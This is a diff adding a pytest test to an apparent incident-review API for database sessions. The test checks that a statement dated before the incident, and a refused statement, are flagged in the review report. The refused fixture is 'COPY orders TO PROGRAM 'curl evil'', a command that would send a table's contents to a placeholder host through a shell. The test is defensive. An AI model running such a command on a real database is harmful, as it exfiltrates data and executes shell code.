@@ -294,3 +294,26 @@ def test_closing_a_review_records_the_hash_of_the_report_it_closed_on(
     assert after.json()["hash"] != seen  # the close is part of the record now
     md = incident.api.get(url, params={"format": "md"}, headers=as_(tokens, "dave")).text
     assert f"closed on the report with SHA-256 `{seen}`" in md
+
+
+def test_statements_before_the_incident_and_refused_ones_are_flagged(
+    incident: Incident, tokens: dict[str, str]
+) -> None:
+    StoreSink(incident.store, "gw-1").write(
+        [
+            # a clock that says the statement ran before the glass was broken
+            record(incident.session_id, "SELECT 2", started=datetime.now(UTC) - timedelta(days=1)),
+            record(
+                incident.session_id,
+                "COPY orders TO PROGRAM 'curl evil'",
+                rows=None,
+                status="refused",
+                rule="statements.untrusted",
+                sqlstate="42501",
+            ),
+        ]
+    )
+    report = incident.api.get("/v1/incidents/INC-4711/review", headers=as_(tokens, "dave")).json()
+    assert ("before_incident", 5) in flags_of(report)
+    refused = next(f for f in report["flags"] if f["kind"] == "outside_scope")
+    assert refused["seq"] == 6 and "statements.untrusted" in refused["message"]
